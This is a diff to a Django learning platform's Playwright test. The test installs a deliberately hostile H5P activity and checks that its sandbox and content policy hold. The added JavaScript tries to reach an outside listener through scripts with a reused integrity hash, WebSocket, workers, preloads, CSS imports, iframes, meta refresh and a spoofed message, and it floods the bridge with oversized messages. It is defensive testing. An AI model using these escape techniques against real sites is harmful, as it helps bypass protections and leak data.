@@ -11,6 +11,7 @@ from django.core.signals import request_started
 from playwright.sync_api import FrameLocator, Page, expect
 
 from cours.models import ModuleActivite, ModulePage
+from evaluations.h5p import inclusion
 from evaluations.models import Declaration, EtatH5P, Tentative
 from lms import suivi
 from lms.models import Professionnel, ProgressionActivite
@@ -354,6 +355,49 @@ H5P.TestHostile = (function () {
     essayer('script', function () {
       var s = document.createElement('script'); s.src = cible + '/script'; document.body.append(s);
     });
+    essayer('integrite', function () {
+      // Une empreinte de la politique, reprise dans integrity, laisserait partir ce script vers l'autre hôte.
+      (__EMPREINTES__).forEach(function (empreinte, rang) {
+        var s = document.createElement('script');
+        s.crossOrigin = 'anonymous'; s.integrity = empreinte; s.src = cible + '/integrite' + rang;
+        document.body.append(s);
+      });
+    });
+    essayer('websocket', function () { new WebSocket(cible.replace('http', 'ws') + '/ws'); });
+    essayer('eventsource', function () { new EventSource(cible + '/es'); });
+    essayer('ouvrier', function () {
+      new Worker(URL.createObjectURL(new Blob(['fetch("' + cible + '/ouvrier", {mode: "no-cors"})'])));
+    });
+    ['prefetch', 'preload', 'stylesheet', 'modulepreload', 'icon', 'manifest'].forEach(function (rel) {
+      essayer(rel, function () {
+        var l = document.createElement('link'); l.rel = rel; l.href = cible + '/' + rel; l.as = 'script';
+        document.head.append(l);
+      });
+    });
+    essayer('css', function () {
+      var s = document.createElement('style');
+      s.textContent = '@import "' + cible + '/import.css"; body { background: url(' + cible + '/fond) }';
+      document.head.append(s);
+    });
+    essayer('cadre', function () {
+      var c = document.createElement('iframe'); c.src = cible + '/cadre'; document.body.append(c);
+    });
+    essayer('telechargement', function () {
+      var a = document.createElement('a'); a.href = cible + '/telecharger'; a.download = 'x'; document.body.append(a);
+      HTMLAnchorElement.prototype.click.call(a);
+    });
+    essayer('media', function () { var v = new Audio(cible + '/son'); v.play().catch(function () {}); });
+    essayer('rafraichir', function () {
+      var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '2;url=' + cible + '/refresh';
+      document.head.append(m);
+    });
+    essayer('poignee', function () { window.parent.postMessage({type: 'h5p:ready', v: 1}, '*'); });
+    setTimeout(function () {
+      for (var i = 0; i < 1000; i += 1) {
+        PontH5P.envoyer('state', {dataType: 'rafale', subContentId: '0', data: String(i)});
+      }
+      PontH5P.envoyer('state', {dataType: 'gros', subContentId: '0', data: new Array(300000).join('x')});
+    }, 600);
     essayer('formulaire', function () {
       var f = document.createElement('form'); f.action = cible + '/formulaire'; f.method = 'post';
       document.body.append(f); f.submit();
@@ -381,7 +425,9 @@ def test_une_activite_hostile_ne_touche_a_rien(
     poser: Callable[..., Any],
     ecouteur: Ecouteur,
 ) -> None:
+    pont = inclusion.fixe("pont/pont-avant.js", live_server.url).empreinte.strip("'")
     js = HOSTILE_JS.replace("__CIBLE__", ecouteur.origine).replace("__PORTAIL__", live_server.url)
+    js = js.replace("__EMPREINTES__", f"['{pont}']")
     poser(nadia, bibliotheque=installer_bibliotheque("H5P.TestHostile", js=js), params={})
     page = ouvrir()
     se_connecter(page, nadia)
@@ -399,5 +445,8 @@ def test_une_activite_hostile_ne_touche_a_rien(
     ]
     assert not [r.url for r in atteintes if "/api/" in r.url or "/mon-compte/" in r.url]
     assert not Declaration.objects.exists()
+    # Mille messages d'un coup, puis un de 300 Ko : la page n'en lit que sa réserve.
+    attendre(page, lambda: EtatH5P.objects.filter(data_id="rafale").exists())
+    assert int(EtatH5P.objects.get().data) < 300
     assert Tentative.objects.get().date_fin is None
     surveillance.fautes.clear()
